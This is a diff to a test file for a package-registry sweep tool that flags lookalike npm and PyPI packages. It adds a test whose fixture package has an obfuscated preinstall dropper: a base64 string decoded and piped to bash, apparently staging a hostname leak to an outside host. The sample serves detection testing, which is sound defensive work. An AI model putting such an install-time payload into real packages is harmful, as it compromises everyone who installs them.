@@ -4,7 +4,9 @@ Two lookalikes of popular packages are published in one feed window, each a sing
 account: `lodahs` (npm) copies `lodash`'s description word for word and is alerted; `fastbi` (PyPI)
 describes a purpose of its own and links its own repository, and is not. Two single typos off `regex`
 (wide look-alikes): `reget` pastes a stock purpose unrelated to its name and is alerted; `regext` says what
-its name says and is not.
+its name says and is not. Two combosquats of `platform` on npm: `ing-platform` decodes a hidden command at
+preinstall and pipes it to a shell (a dropper) and is alerted; `platform-icons` describes its own purpose and
+runs nothing at install, and is not.
 """
 
 from __future__ import annotations
@@ -29,10 +31,12 @@ def _iso(d: datetime) -> str:
 
 
 def _packument(name: str, description: str, *, created: datetime, versions: list[str], maintainer: str,
-               repository: str | None = None) -> dict:
-    manifest = {"description": description, "main": "index.js", "license": "MIT"}
+               repository: str | None = None, scripts: dict[str, str] | None = None) -> dict:
+    manifest: dict[str, object] = {"description": description, "main": "index.js", "license": "MIT"}
     if repository:
         manifest["repository"] = {"type": "git", "url": repository}
+    if scripts:
+        manifest["scripts"] = scripts
     return {"_id": name, "name": name, "description": description, "dist-tags": {"latest": versions[-1]},
             "versions": {v: {**manifest, "name": name, "version": v} for v in versions},
             "time": {"created": _iso(created), **{v: _iso(created) for v in versions}},
@@ -116,3 +120,29 @@ def test_sweep_alerts_a_stock_purpose_under_a_misspelt_name_and_clears_one_that_
     assert set(alerts) == {("reget", "regex")}
     reasons = " | ".join(alerts[("reget", "regex")].reasons)
     assert "one typo away from 'regex'" in reasons and "shares no word with its own name" in reasons
+
+
+def test_sweep_alerts_an_install_script_that_runs_a_hidden_payload(tmp_path, monkeypatch) -> None:
+    """`ing-platform` borrows another package's description and, at preinstall, decodes a base64 command and
+    pipes it to bash: the dropper rule alerts it whatever its summary says. `platform-icons`, the same shape
+    of name, says what it is and runs nothing at install."""
+    now = datetime.now(UTC)
+    old, fresh = now - timedelta(days=4000), now - timedelta(hours=2)
+    hidden = "ej0wOyB4PSdpbmctcGxhdGZvcm0nOwpkPSJvb2JzLmZ1biI7CnM9Imhvc3RuYW1lPWBob3N0bmFtZWAi"
+    with FakeRegistry() as fake:
+        d = fake.data
+        d.npm["platform"] = _packument("platform", "A platform detection library that works on nearly all JavaScript platforms.",
+                                       created=old, versions=["1.3.5", "1.3.6"], maintainer="jdalton",
+                                       repository="git+https://github.com/bestiejs/platform.js.git")
+        d.npm["ing-platform"] = _packument(
+            "ing-platform", "Minimalistic library to work with countries and timezones data.", created=fresh,
+            versions=["1.0.0"], maintainer="newcomer5", repository="git+https://github.com/newcomer5/ing-platform.git",
+            scripts={"preinstall": f'echo "{hidden}" | base64 -d | bash', "test": "exit 1"})
+        d.npm["platform-icons"] = _packument(
+            "platform-icons", "Platform icons for Windows, macOS and Linux as SVG sprites", created=fresh,
+            versions=["1.0.0"], maintainer="newcomer6", repository="git+https://github.com/newcomer6/platform-icons.git")
+        d.publish("npm", "ing-platform")
+        d.publish("npm", "platform-icons")
+        _, alerts = _sweep(fake, tmp_path, monkeypatch, [Ecosystem.NPM])
+    assert set(alerts) == {("ing-platform", "platform")}
+    assert "its install script decodes a hidden payload and runs it" in " | ".join(alerts[("ing-platform", "platform")].reasons)
